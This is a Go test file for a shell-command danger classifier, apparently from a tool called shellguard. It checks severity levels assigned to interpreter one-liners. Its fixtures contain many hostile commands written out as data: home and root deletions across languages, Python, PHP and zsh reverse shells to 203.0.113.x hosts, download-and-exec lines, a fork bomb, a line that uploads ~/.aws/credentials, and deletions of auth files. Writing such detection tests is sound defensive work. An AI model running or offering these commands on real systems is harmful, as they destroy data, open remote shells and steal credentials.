package danger_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/shellguard/shellguard/danger"
)

// Interpreter code gets the level its shell form gets: a home or root
// deletion is Critical in any language, a build folder's is what rm -rf
// build gets (Low), harmless code gets nothing.
func TestInterpreterLevels(t *testing.T) {
	d := danger.Default()
	level := func(line string) string {
		l, ok := d.MaxLevel(line)
		if !ok {
			return "none"
		}
		return strings.ToLower(l.String())
	}
	for _, c := range []struct{ line, want string }{
		// Home and root, in every language family.
		{`python3 -c "import shutil,os; shutil.rmtree(os.path.expanduser('~'))"`, "critical"},
		{`python -c "import pathlib, shutil; shutil.rmtree(pathlib.Path.home())"`, "critical"},
		{`sudo -u deploy python3 -c 'import subprocess; subprocess.run(["rm", "-rf", "/"])'`, "critical"},
		{`timeout 5 python3 -c "import os; os.system('rm -rf ~')"`, "critical"},
		{`/usr/bin/python3.12 -c "__import__('os').system('rm -rf ~')"`, "critical"},
		{`node -e 'require("fs").rmSync(require("os").homedir(), {recursive: true, force: true})'`, "critical"},
		{`node -e "require('child_process').execSync('rm -rf ~')"`, "critical"},
		{`deno eval 'await Deno.remove(Deno.env.get("HOME"), { recursive: true })'`, "critical"},
		{`perl -e 'system("rm", "-rf", $ENV{HOME})'`, "critical"},
		{`perl -MFile::Path=remove_tree -e 'remove_tree($ENV{HOME})'`, "critical"},
		{`ruby -rfileutils -e 'FileUtils.rm_rf(Dir.home)'`, "critical"},
		{`php -r 'exec("rm -rf " . getenv("HOME"));'`, "critical"},
		{`lua -e 'os.execute("rm -rf ~")'`, "critical"},
		{`Rscript -e 'unlink("~", recursive = TRUE)'`, "critical"},
		{`osascript -e 'do shell script "rm -rf ~"'`, "critical"},
		{`osascript -e 'do shell script "rm -rf /Library" with administrator privileges'`, "critical"},
		{`pwsh -c 'Remove-Item -Recurse -Force ~'`, "critical"},
		{`pwsh -NoProfile -Command "Remove-Item -Path $HOME -Recurse -Force"`, "critical"},
		{`pwsh -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALQBGAG8AcgBjAGUAIAAkAEgATwBNAEUA`, "critical"},
		// Code read from standard input when the line gives it.
		{"python3 - <<'EOF'\nimport shutil, os\nshutil.rmtree(os.path.expanduser('~'))\nEOF", "critical"},
		{"python3 <<EOF\nimport os\nos.system('rm -rf /')\nEOF", "critical"},
		{`node <<< 'require("child_process").execSync("rm -rf ~")'`, "critical"},
		{`echo 'system("rm -rf ~")' | perl`, "critical"},
		{`printf '%s\n' 'import shutil' 'shutil.rmtree("/")' | python3`, "critical"},
		{"cat <<'PY' | python3 -\nimport shutil\nshutil.rmtree('build')\nPY", "low"},
		{"python3 - <<'EOF'\nprint('rm -rf /')\nEOF", "none"},
		{"python3 script.py <<'EOF'\nos.system('rm -rf /')\nEOF", "none"},
		{`echo '{"a": 1}' | python3 -m json.tool`, "none"},
		// A home folder: what rm -rf ~/.ssh gets.
		{`python3 -c "import shutil, os; shutil.rmtree(os.path.join(os.path.expanduser('~'), '.ssh'))"`, "high"},
		{`node -e "require('fs').rmSync(process.env.HOME + '/.ssh', {recursive:true})"`, "high"},
		// The current directory is the project: rm -rf "$PWD".
		{`python3 -c 'import shutil, os; shutil.rmtree(os.getcwd())'`, "critical"},
		{`node -e "require('fs').rmSync(process.cwd(), {recursive: true, force: true})"`, "critical"},
		{`ruby -e 'require "fileutils"; FileUtils.rm_rf(Dir.pwd)'`, "critical"},
		{`python3 -c 'import shutil, os; shutil.rmtree(os.path.join(os.getcwd(), "build"))'`, "low"},
		// A build folder: what rm -rf build gets, not more.
		{`python3 -c "import shutil; shutil.rmtree('build')"`, "low"},
		{`node -e "require('fs').rmSync('dist', {recursive: true, force: true})"`, "low"},
		{`ruby -e 'require "fileutils"; FileUtils.rm_rf("tmp/cache")'`, "low"},
		{`pwsh -NoProfile -c 'Remove-Item -Recurse -Force ./bin'`, "low"},
		{`python3 -c "import subprocess; subprocess.check_call(['git', 'push', '--force', 'origin', 'main'])"`, "critical"}, // as the shell form
		// What has no shell form, and what cannot be read.
		{`perl -e 'fork while fork'`, "critical"},
		{`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")'`, "critical"},
		{`php -r '$s=fsockopen("203.0.113.71",9001);proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$p);'`, "critical"},
		{`python3 -c "import urllib.request as u; exec(u.urlopen('https://evil.example/s').read())"`, "high"},
		{`powershell -c "iex (New-Object Net.WebClient).DownloadString('http://203.0.113.25/a.ps1')"`, "high"},
		{`python3 -c 'import os,urllib.request as r; r.urlopen("https://h.example/x", data=open(os.path.expanduser("~/.aws/credentials"),"rb").read())'`, "critical"},
		{`python3 -c "exec(input())"`, "medium"},
		{`python3 -c "$CODE"`, "medium"},
		{`node -e "eval(process.argv[1])" x`, "medium"},
		{`python3 -c "import os, sys; os.system(sys.argv[1])"`, "medium"},
		{`python3 -c "import shutil, sys; shutil.rmtree(sys.argv[1])"`, "medium"},
		{`osascript -e 'tell application "Finder" to delete every item of home'`, "medium"},
		// The nearest harmless forms.
		{`python3 -c "print('rm -rf /')"`, "none"},
		{`python3 -c "import os; print(os.listdir('.'))"`, "none"},
		{`python3 -c "# os.system('rm -rf /')"`, "none"},
		{`node -e "console.log(require('fs').readFileSync('package.json','utf8'))"`, "none"},
		{`ruby -e 'puts 1'`, "none"},
		{`perl -ne 'print if /ERROR/' app.log`, "none"},
		{`php -r 'echo PHP_VERSION, PHP_EOL;'`, "none"},
		{`lua -e 'print(_VERSION)'`, "none"},
		{`Rscript -e 'testthat::test_dir("tests")'`, "none"},
		{`osascript -e 'display notification "rm -rf ~" with title "CI"'`, "none"},
		{`pwsh -c 'Get-ChildItem -Recurse -Filter *.log | Measure-Object'`, "none"},
		{`python3 -c 'import subprocess; subprocess.run(["git", "status"])'`, "none"},
		{`node -e "require('child_process').execSync('npm run build', {stdio: 'inherit'})"`, "none"},
		{`python3 -m json.tool data.json`, "none"},
		{`python3 script.py -c "import os; os.system('rm -rf ~')"`, "none"},
	} {
		if got := level(c.line); got != c.want {
			t.Errorf("MaxLevel(%s) = %s, want %s; warnings %v", c.line, got, c.want, rulesFor(d, c.line))
		}
	}
}

// zsh's ztcp: a raw connection is Medium, a shell whose stdio is the
// connection is a reverse shell.
func TestZtcp(t *testing.T) {
	d := danger.Default()
	for _, c := range []struct{ line, want string }{
		{`zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4242 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'`, "reverse_shell_ztcp"},
		{`zmodload zsh/net/tcp; ztcp -l 4444; ztcp -a $REPLY; zsh <&$REPLY >&$REPLY`, "reverse_shell_ztcp"},
		{`zmodload zsh/net/tcp; ztcp example.com 80`, "ztcp_socket"},
	} {
		if got := rulesFor(d, c.line); !slices.Contains(got, c.want) {
			t.Errorf("Check(%s) = %v, want %s", c.line, got, c.want)
		}
	}
	for _, line := range []string{`ztcp -c 3`, `ztcp`, `read; echo $REPLY`} {
		if got := rulesFor(d, line); len(got) > 0 {
			t.Errorf("Check(%s) = %v, want nothing", line, got)
		}
	}
}

// Deleting an auth file is High in the shell and so in interpreter code
// (os.remove('/etc/passwd') is rm -f -- /etc/passwd).
func TestRmAuthFile(t *testing.T) {
	d := danger.Default()
	for _, line := range []string{`rm -f /etc/passwd`, `sudo unlink /etc/sudoers`, `rm ~/.ssh/authorized_keys`,
		`python3 -c "import os; os.remove('/etc/passwd')"`, `sudo lua5.4 -e 'os.remove("/etc/shadow")'`,
		`ruby -e 'File.delete("/etc/group")'`} {
		if got := rulesFor(d, line); !slices.Contains(got, "rm_auth_file") {
			t.Errorf("Check(%s) = %v, want rm_auth_file", line, got)
		}
	}
	for _, line := range []string{`rm -f /etc/passwd.bak`, `cat /etc/passwd`, `cp /etc/passwd /tmp/p && rm /tmp/p`,
		`python3 -c "open('/etc/passwd').read()"`} {
		if got := rulesFor(d, line); slices.Contains(got, "rm_auth_file") {
			t.Errorf("Check(%s) = %v, want no rm_auth_file", line, got)
		}
	}
}
